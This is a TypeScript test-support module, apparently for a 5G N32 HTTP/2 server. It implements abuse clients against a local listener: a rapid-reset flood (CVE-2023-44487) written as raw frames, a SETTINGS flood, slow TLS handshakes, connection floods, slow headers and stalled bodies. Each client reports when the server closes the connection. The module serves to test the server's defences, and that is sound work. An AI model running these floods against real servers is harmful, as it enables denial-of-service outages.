import { connect as h2connect, type ClientHttp2Session } from 'node:http2';
import { connect as tcpConnect, type Socket } from 'node:net';
import { connect as tlsConnect, type ConnectionOptions } from 'node:tls';
import type { Duplex } from 'node:stream';
import { sleep } from '../../test/support/wait-for';

/**
 * The misbehaving clients of the abuse cases. Each returns what happened to the offending
 * connection: whether and when the server closed it (and with which GOAWAY code), and how much the
 * attacker got to send. None of them stops by itself before `durationMs`; a flooding connection
 * open at that point goes on flooding until the server closes it (at most `FLOOD_CAP_MS` more), so
 * that every connection of an attack has met the limit.
 */
export interface AttackReport {
  /** What the attacker did (for the summary). */
  sent: string;
  /** Connections the attack opened. */
  connections: number;
  /** Of those, how many the server closed during the attack. */
  closedByServer: number;
  /** ms from the start of the attack until the server closed the (first) offending connection. */
  firstClosedAfterMs: number | null;
  /** GOAWAY error code the server sent, if any. */
  goawayCode?: number;
}

/** Where the attack connects: the N32 listener over TLS (with a trusted certificate) or an h2c listener. */
export interface Target {
  port: number;
  /** TLS options (certificate, CA); absent for h2c. */
  tls?: ConnectionOptions & { servername: string };
}

export const H2_PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');

/** How long one flooding connection goes on, at most, waiting for the server to close it. */
export const FLOOD_CAP_MS = 15_000;

/** An HTTP/2 frame header: 24-bit length, type, flags, 31-bit stream id. */
export function frame(type: number, flags: number, streamId: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header.writeUInt8(type, 3);
  header.writeUInt8(flags, 4);
  header.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([header, payload]);
}

/** A SETTINGS frame with one entry. */
export function settingsFrame(id: number, value: number): Buffer {
  const payload = Buffer.alloc(6);
  payload.writeUInt16BE(id, 0);
  payload.writeUInt32BE(value, 2);
  return frame(0x4, 0, 0, payload);
}

/** A HEADERS frame (END_HEADERS | END_STREAM) for `GET /` with `authority`, HPACK without Huffman. */
export function getHeadersFrame(streamId: number, authority: string): Buffer {
  const value = Buffer.from(authority, 'latin1');
  // :method GET (2), :path / (4), :scheme https (7), then :authority (name index 1) as a literal.
  const block = Buffer.concat([Buffer.from([0x82, 0x84, 0x87, 0x41, value.length]), value]);
  return frame(0x1, 0x4 | 0x1, streamId, block);
}

/** A raw connection: TLS (ALPN h2) or TCP, resolved once it is ready for HTTP/2 bytes. */
export function openRaw(target: Target): Promise<Socket> {
  return new Promise((resolve, reject) => {
    const socket: Socket = target.tls
      ? tlsConnect({ host: '127.0.0.1', port: target.port, ALPNProtocols: ['h2'], ...target.tls }, () => resolve(socket))
      : tcpConnect(target.port, '127.0.0.1', () => resolve(socket));
    socket.once('error', reject);
  });
}

/** An HTTP/2 client session on the target (node:http2, which does the framing). */
export function openSession(target: Target): Promise<ClientHttp2Session> {
  return new Promise((resolve, reject) => {
    const authority = target.tls ? `https://${target.tls.servername}:${target.port}` : `http://127.0.0.1:${target.port}`;
    const session = h2connect(authority, target.tls ? { createConnection: (): Duplex => tlsConnect({ host: '127.0.0.1', port: target.port, ALPNProtocols: ['h2'], ...target.tls }) } : {});
    session.once('error', reject);
    session.once('connect', () => {
      session.off('error', reject);
      session.on('error', () => undefined);
      resolve(session);
    });
  });
}

/** Watches a connection for the server closing it. */
function watch(started: number, closeable: { once(event: 'close', listener: () => void): unknown }): { closedAt: () => number | null } {
  let closedAt: number | null = null;
  closeable.once('close', () => (closedAt = performance.now() - started));
  return { closedAt: () => closedAt };
}

/**
 * Rapid reset (CVE-2023-44487) in raw frames: HEADERS for a new stream immediately followed by
 * RST_STREAM(CANCEL), back to back, for `durationMs` or until the server closes the connection.
 * (node:http2's client cannot do this: it queues streams beyond the server's
 * SETTINGS_MAX_CONCURRENT_STREAMS and spends minutes cancelling them there.)
 */
async function rstFloodOnce(target: Target, path: string, capMs: number): Promise<AttackReport> {
  const started = performance.now();
  const socket = await openRaw(target);
  socket.on('error', () => undefined);
  const closed = watch(started, socket);
  let goawayCode: number | undefined;
  let received = Buffer.alloc(0);
  socket.on('data', (chunk: Buffer) => {
    // Only looks for a GOAWAY (type 7): its error code is the last 4 bytes of the 8-byte payload.
    if (goawayCode !== undefined) return;
    received = Buffer.concat([received, chunk]).subarray(-65_536);
    for (let at = 0; at + 9 <= received.length; ) {
      const length = received.readUIntBE(at, 3);
      if (at + 9 + length > received.length) break;
      if (received[at + 3] === 0x7 && length >= 8) goawayCode = received.readUInt32BE(at + 9 + 4);
      at += 9 + length;
    }
  });
  socket.write(Buffer.concat([H2_PREFACE, frame(0x4, 0, 0)]));
  await sleep(100);
  // Acknowledge the server's SETTINGS; drop the rest of what it sends.
  received = Buffer.alloc(0);
  socket.write(frame(0x4, 0x1, 0));
  const block = (streamId: number): Buffer => {
    const pathBytes = Buffer.from(path, 'latin1');
    const authority = Buffer.from(target.tls?.servername ?? '127.0.0.1', 'latin1');
    // :method GET, :scheme https (indexed), :path and :authority as literals without indexing.
    const headers = Buffer.concat([Buffer.from([0x82, 0x87, 0x04, pathBytes.length]), pathBytes, Buffer.from([0x01, authority.length]), authority]);
    const rst = Buffer.alloc(4);
    rst.writeUInt32BE(0x8, 0);
    return Buffer.concat([frame(0x1, 0x4 | 0x1, streamId, headers), frame(0x3, 0, streamId, rst)]);
  };
  let streamId = 1;
  let resets = 0;
  while (performance.now() - started < capMs && closed.closedAt() === null && !socket.destroyed && streamId < 2 ** 31 - 400) {
    const batch: Buffer[] = [];
    for (let i = 0; i < 100; i++, streamId += 2) batch.push(block(streamId));
    resets += 100;
    if (!socket.write(Buffer.concat(batch))) await Promise.race([new Promise((resolve) => socket.once('drain', resolve)), sleep(100)]);
    await new Promise((resolve) => setImmediate(resolve));
  }
  await sleep(100);
  const closedAt = closed.closedAt();
  socket.destroy();
  return { sent: `${resets} streams opened and reset (HEADERS + RST_STREAM)`, connections: 1, closedByServer: closedAt !== null ? 1 : 0, firstClosedAfterMs: closedAt, ...(goawayCode !== undefined ? { goawayCode } : {}) };
}

/**
 * SETTINGS flood: after the preface, SETTINGS frames back to back (each one the server must
 * acknowledge) without reading the acknowledgements, for `durationMs` or until closed.
 */
async function settingsFloodOnce(target: Target, capMs: number): Promise<AttackReport> {
  const started = performance.now();
  const socket = await openRaw(target);
  socket.on('error', () => undefined);
  const closed = watch(started, socket);
  socket.write(Buffer.concat([H2_PREFACE, frame(0x4, 0, 0)]));
  // Never read: the ACKs pile up on the server's side.
  socket.pause();
  let frames = 0;
  const batch = Buffer.concat(Array.from({ length: 100 }, (_, i) => settingsFrame(0x4, 65_535 + (i % 7))));
  while (performance.now() - started < capMs && closed.closedAt() === null && !socket.destroyed) {
    if (socket.write(batch)) frames += 100;
    else {
      frames += 100;
      await Promise.race([new Promise((resolve) => socket.once('drain', resolve)), sleep(100)]);
    }
    await new Promise((resolve) => setImmediate(resolve));
  }
  await sleep(100);
  const closedAt = closed.closedAt();
  socket.destroy();
  return { sent: `${frames} SETTINGS frames`, connections: 1, closedByServer: closedAt !== null ? 1 : 0, firstClosedAfterMs: closedAt };
}

/**
 * A persistent attacker: as soon as the server closes the offending connection, it opens the next
 * one and starts over, until `durationMs` is up (the connection open then floods on until closed).
 */
async function persist(durationMs: number, once: () => Promise<AttackReport>): Promise<AttackReport> {
  const started = performance.now();
  const reports: AttackReport[] = [];
  while (performance.now() - started < durationMs - 50) {
    reports.push(await once());
    await sleep(20);
  }
  const closedAfter = reports.map((r) => r.firstClosedAfterMs).filter((t): t is number => t !== null);
  const codes = [...new Set(reports.map((r) => r.goawayCode).filter((c) => c !== undefined))];
  return {
    sent: `${reports.length} connection(s) one after the other: ${total(reports)}`,
    connections: reports.length,
    closedByServer: reports.reduce((n, r) => n + r.closedByServer, 0),
    firstClosedAfterMs: closedAfter.length ? closedAfter.sort((a, b) => a - b)[closedAfter.length >> 1]! : null,
    ...(codes.length ? { goawayCode: codes[0] } : {}),
  };
}

/** "12 streams opened and reset" + "30 streams opened and reset" -> "42 streams opened and reset". */
function total(reports: readonly AttackReport[]): string {
  const unit = /^\d+ (.*)$/.exec(reports[0]?.sent ?? '')?.[1] ?? '';
  return `${reports.reduce((n, r) => n + Number(/^(\d+)/.exec(r.sent)?.[1] ?? 0), 0)} ${unit}`;
}

/** Rapid reset, connection after connection (see rstFloodOnce). */
export function rstFlood(target: Target, path: string, durationMs: number): Promise<AttackReport> {
  return persist(durationMs, () => rstFloodOnce(target, path, FLOOD_CAP_MS));
}

/** SETTINGS flood, connection after connection (see settingsFloodOnce). */
export function settingsFlood(target: Target, durationMs: number): Promise<AttackReport> {
  return persist(durationMs, () => settingsFloodOnce(target, FLOOD_CAP_MS));
}

/**
 * `count` TCP connections to `port` opened at once from `localAddress`, each given `start`, held
 * until the server closes them or `durationMs` passed, then closed: when the server closed each
 * (ms from the start), for those it closed.
 */
async function holdConnections(port: number, count: number, durationMs: number, start: (socket: Socket) => void, localAddress = '127.0.0.1'): Promise<number[]> {
  const started = performance.now();
  const sockets = await Promise.all(
    Array.from(
      { length: count },
      () =>
        new Promise<Socket>((resolve, reject) => {
          const socket = tcpConnect({ port, host: '127.0.0.1', localAddress }, () => resolve(socket));
          socket.once('error', reject);
        }),
    ),
  );
  const watches = sockets.map((socket) => {
    socket.on('error', () => undefined);
    start(socket);
    return watch(started, socket);
  });
  while (performance.now() - started < durationMs && watches.some((w) => w.closedAt() === null)) await sleep(50);
  for (const socket of sockets) socket.destroy();
  return watches.map((w) => w.closedAt()).filter((t): t is number => t !== null);
}

/** Connections that start a TLS handshake (5 bytes of a ClientHello record header) and never go on. */
export async function slowTlsHandshake(port: number, count: number, durationMs: number): Promise<AttackReport> {
  const closedAts = await holdConnections(port, count, durationMs, (socket) => socket.write(Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00])));
  return { sent: `${count} TLS handshakes started, never finished`, connections: count, closedByServer: closedAts.length, firstClosedAfterMs: closedAts.length ? Math.min(...closedAts) : null };
}

/**
 * A connection flood from one address (`localAddress`, a loopback address of the attack's own):
 * `count` TCP connections opened at once that send nothing, held until the server closes them:
 * the ones past the listener's bounds at once, the others at the TLS handshake timeout.
 * `closedWithin` counts those the server closed within `closedWithinMs`.
 */
export async function connectionFlood(port: number, localAddress: string, count: number, durationMs: number, closedWithinMs: number): Promise<AttackReport & { closedWithin: number }> {
  const closedAts = await holdConnections(port, count, durationMs, (socket) => socket.resume(), localAddress);
  return {
    sent: `${count} connections from ${localAddress}, nothing sent on them`,
    connections: count,
    closedByServer: closedAts.length,
    firstClosedAfterMs: closedAts.length ? Math.min(...closedAts) : null,
    closedWithin: closedAts.filter((t) => t <= closedWithinMs).length,
  };
}

/**
 * Slow headers: a trusted connection that sends the HTTP/2 preface, an empty SETTINGS and one
 * HEADERS frame a byte at a time, `byteEveryMs` apart.
 */
export async function slowHeaders(target: Target, count: number, byteEveryMs: number, durationMs: number): Promise<AttackReport> {
  const started = performance.now();
  const sockets = await Promise.all(Array.from({ length: count }, () => openRaw(target)));
  const watches = sockets.map((socket) => {
    socket.on('error', () => undefined);
    socket.on('data', () => undefined);
    return watch(started, socket);
  });
  const bytes = Buffer.concat([H2_PREFACE, frame(0x4, 0, 0), getHeadersFrame(1, target.tls?.servername ?? '127.0.0.1')]);
  let sent = 0;
  for (let i = 0; i < bytes.length && performance.now() - started < durationMs; i++) {
    if (watches.every((w) => w.closedAt() !== null)) break;
    for (const socket of sockets) if (!socket.destroyed) socket.write(bytes.subarray(i, i + 1));
    sent = i + 1;
    await sleep(byteEveryMs);
  }
  while (performance.now() - started < durationMs && watches.some((w) => w.closedAt() === null)) await sleep(50);
  const closedAts = watches.map((w) => w.closedAt()).filter((t): t is number => t !== null);
  for (const socket of sockets) socket.destroy();
  return { sent: `${count} connections trickling ${sent} of ${bytes.length} bytes (preface, SETTINGS, HEADERS) ${byteEveryMs} ms apart`, connections: count, closedByServer: closedAts.length, firstClosedAfterMs: closedAts.length ? Math.min(...closedAts) : null };
}

/** Stalled bodies: POST streams that announce a body, send a few bytes of it and never finish. */
export async function stalledBodies(target: Target, path: string, streams: number, durationMs: number): Promise<AttackReport> {
  const started = performance.now();
  const session = await openSession(target);
  const closed = watch(started, session);
  let reset = 0;
  let firstResetAt: number | null = null;
  for (let i = 0; i < streams; i++) {
    const stream = session.request({ ':method': 'POST', ':path': path, 'content-type': 'application/json', 'content-length': '1000' }, { endStream: false });
    stream.on('error', () => undefined);
    stream.on('response', () => undefined);
    stream.on('close', () => {
      reset += 1;
      firstResetAt ??= performance.now() - started;
    });
    stream.write('{"sender":');
  }
  while (performance.now() - started < durationMs && reset < streams && closed.closedAt() === null) await sleep(50);
  session.destroy();
  return {
    sent: `${streams} POST streams with 10 of 1000 body bytes; ${reset} ended by the server`,
    connections: 1,
    closedByServer: reset === streams || closed.closedAt() !== null ? 1 : 0,
    firstClosedAfterMs: firstResetAt ?? closed.closedAt(),
  };
}
